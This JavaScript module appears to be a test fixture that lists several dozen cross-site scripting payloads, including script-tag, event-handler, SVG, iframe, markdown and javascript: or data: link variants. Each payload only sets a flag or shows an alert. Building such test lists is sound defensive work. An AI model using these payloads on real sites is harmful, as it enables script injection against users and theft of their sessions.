// Texts that run in a page that does not escape what people write. Each sets
// a flag on the window or opens a dialog when it runs.
const run = 'window.__ran=1;alert(1)';

export const texts = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `"><script>${run}</script>`,
  `'><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run.replace(';', '&#59;')}>`,
  `"><img src=x onerror="${run}">`,
  `<svg onload="${run}">`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin="${run}" attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"></use></svg>`,
  `<body onload="${run}">`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="javascript:${run}">`,
  `<details open ontoggle="${run}">`,
  `<input autofocus onfocus="${run}">`,
  `<video><source onerror="${run}"></video>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<style>@import 'javascript:${run}';</style>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${run})}">`,
  `<base href="javascript:/a/-${run}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<a href="javascript:${run}">press me</a>`,
  `<a href="java\tscript:${run}">press me</a>`,
  `<form action="javascript:${run}"><button>press me</button></form>`,
  `[press me](javascript:${run})`,
  `![x](x"onerror="${run})`,
  `\u2028<script>${run}</script>`,
  `\${${run}}{{constructor.constructor('${run}')()}}`,
];

/** What stands in the field of a link. */
export const links = [
  `javascript:${run}`, `JaVaScRiPt:${run}`, ` javascript:${run}`, `java\nscript:${run}`, `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`, `https://x.example/"onmouseover="${run}`, `https://x.example/'><script>${run}</script>`, `//x.example/<img src=x onerror=${run}>`,
];
